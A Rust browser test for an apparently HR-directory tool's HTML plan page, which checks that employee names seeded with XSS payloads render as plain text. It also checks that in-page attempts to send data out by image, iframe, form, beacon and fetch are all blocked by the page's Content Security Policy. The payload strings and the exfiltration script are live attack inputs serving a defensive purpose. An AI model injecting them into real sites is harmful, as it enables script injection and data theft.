//! Hostile names stay text, and nothing leaves the page.

use std::io::Read as _;
use std::net::TcpListener;
use std::time::Duration;

use serde_json::json;

use super::driver::Browser;
use super::paged;
use crate::commands::{Employee, Site, person};
use crate::foreign::Habits;

#[test]
fn hostile_names_are_text_and_nothing_leaves_the_page() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    listener.set_nonblocking(true).expect("it can be asked without waiting");
    let elsewhere = format!("http://{}", listener.local_addr().expect("bound"));
    let hostile = [
        format!("</script><script>fetch('{elsewhere}')</script>"),
        format!("<img src={elsewhere} onerror=document.title=1>"),
        "</details></table></noscript><style>*{display:none}</style>".to_owned(),
        "\" onmouseover=\"document.title=1".to_owned(),
        "\u{202e}gnissim\u{2066} \u{2028} \u{200b}x".to_owned(),
        "<!--<script></script x</script/".to_owned(),
        "-->]]>{{x}}${document.title=1}".to_owned(),
        "Ünü".repeat(3400),
    ];
    let flow = "    absent: { employee: delete }\n    limits: { delete: 100% }\n";
    let site = Site::with(Habits::flat_80(), flow);
    site.edit(
        "directory/structure.yaml",
        "name: Engineering",
        "name: \"</svg><script>document.title=1</script>\"",
    );
    for (n, name) in hostile.iter().enumerate() {
        let mut one = person(&format!("<b>{n}"));
        one["first_name"] = json!(name);
        one["city"] = json!(name);
        site.server.seed(Employee, one);
    }
    // All of them leave, though the flow never ran before.
    let all = format!("employee:delete={}", hostile.len());
    paged(&site, &["plan", "--allow", &all, "--reason", "they are hostile"]).run().code(0);
    let file = site.work.path("page.html");
    let browser = Browser::start();
    browser.requests();
    browser.open(&file);
    assert_eq!(browser.count("tr.change.delete"), hostile.len() as u64);
    assert_eq!(browser.ask("document.title"), json!("Plan of hq"));
    let shown = browser.text("table.changes");
    for text in [
        "</script><script>fetch(",
        "<b>0",
        "\" onmouseover=\"",
        "\\u{202e}gnissim\\u{2066}",
        "-->]]>{{x}}${",
        "<!--<script></script x",
    ] {
        assert!(shown.contains(text), "{text}: {}", &shown[..2000.min(shown.len())]);
    }
    assert_eq!(
        browser.count(
            "table.changes script, table.changes img, table.changes style, .pictures script"
        ),
        0
    );
    // A name of 10 KB takes no more room than others, and pushes nothing aside.
    assert_eq!(browser.ask("document.documentElement.scrollWidth <= innerWidth"), json!(true));
    assert_eq!(
        browser.ask(
            "[...document.querySelectorAll('tr.change')].every((row) => row.offsetHeight < 400)"
        ),
        json!(true)
    );
    assert_eq!(browser.console(), Vec::<String>::new());
    let asked = browser.requests();
    assert!(asked.iter().any(|url| url.starts_with("file:")), "{asked:?}");
    // The browser asks itself for a page to begin with.
    let left: Vec<&String> =
        asked.iter().filter(|url| url.starts_with("http") || url.starts_with("ws")).collect();
    assert!(left.is_empty(), "{left:?}");

    assert_kept(&browser, &elsewhere, &listener);
}

/// Even a script that got in could not load or send anything.
fn assert_kept(browser: &Browser, elsewhere: &str, listener: &TcpListener) {
    let tries = format!(
        "(async () => {{
            const image = new Image(); image.src = '{elsewhere}/image';
            const frame = document.createElement('iframe'); frame.src = '{elsewhere}/frame'; \
            document.body.append(frame);
            const script = document.createElement('script'); script.textContent = 'document.title \
            = 1'; document.body.append(script);
            const form = document.createElement('form'); form.action = '{elsewhere}/form'; \
            document.body.append(form); form.submit();
            navigator.sendBeacon('{elsewhere}/beacon', 'x');
            return fetch('{elsewhere}/fetch').then(() => 'sent', () => 'kept');
        }})()"
    );
    assert_eq!(browser.ask(&tries), json!("kept"));
    assert_eq!(browser.ask("document.title"), json!("Plan of hq"));
    // For a frame Chromium opens a connection before it asks the policy, and sends nothing through
    // it.
    while let Ok((mut stream, _)) = listener.accept() {
        stream.set_nonblocking(false).expect("it can be waited for");
        stream.set_read_timeout(Some(Duration::from_millis(500))).expect("a time");
        let mut sent = [0; 200];
        let read = stream.read(&mut sent).unwrap_or_default();
        assert_eq!(String::from_utf8_lossy(&sent[..read]), "", "something was sent");
    }
    assert!(browser.console().iter().any(|line| line.contains("Content Security Policy")));
}
